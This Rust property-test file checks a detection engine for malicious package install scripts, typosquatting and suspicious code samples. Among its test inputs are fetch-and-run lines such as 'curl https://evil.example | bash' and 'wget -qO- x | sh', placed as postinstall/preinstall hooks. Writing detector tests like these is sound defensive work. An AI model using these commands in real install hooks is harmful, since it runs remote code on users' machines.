//! Property tests for the detection engine.

use proptest::prelude::*;
use serde_json::json;
use shield_detection::*;

fn arb_script() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("node build.js".to_string()),
        Just("curl https://evil.example | bash".to_string()),
        Just("wget -qO- x | sh".to_string()),
        "[a-z ]{0,300}",
    ]
}

fn arb_sample() -> impl Strategy<Value = Option<String>> {
    proptest::option::of(prop_oneof![
        "[ -~]{0,200}",
        "[A-Za-z0-9+/]{90,160}",
        Just("eval(a); eval(b); eval(c); eval(d)".to_string()),
    ])
}

proptest! {
    #[test]
    fn overall_confidence_is_bounded_max(
        name in "[a-z][a-z0-9.-]{0,20}",
        postinstall in arb_script(),
        preinstall in arb_script(),
        sample in arb_sample(),
    ) {
        let engine = DetectionEngine::default();
        let manifest = json!({"scripts": {"postinstall": postinstall, "preinstall": preinstall}});
        let analysis = engine.analyze(&name, "1.0.0", &manifest, sample.as_deref());

        prop_assert!((0.0..=1.0).contains(&analysis.overall_confidence));
        for ind in &analysis.indicators {
            prop_assert!((0.0..=1.0).contains(&ind.confidence));
            prop_assert!(ind.confidence <= analysis.overall_confidence);
            prop_assert_eq!(ind.evidence_digest.len(), 64);
        }
        let max = analysis.indicators.iter().map(|i| i.confidence).fold(0.0, f64::max);
        prop_assert_eq!(analysis.overall_confidence, max);
    }

    #[test]
    fn similarity_is_symmetric_and_bounded(a in "[a-z.-]{0,12}", b in "[a-z.-]{0,12}") {
        let ab = similarity(&a, &b);
        prop_assert_eq!(ab, similarity(&b, &a));
        prop_assert!((0.0..=1.0).contains(&ab));
        prop_assert_eq!(similarity(&a, &a), 1.0);
    }

    #[test]
    fn reference_names_never_flag_themselves(idx in 0..DEFAULT_REFERENCE_PACKAGES.len()) {
        let name = DEFAULT_REFERENCE_PACKAGES[idx];
        prop_assert!(!check_typosquat(name, &DetectionConfig::default()).triggered);
    }
}
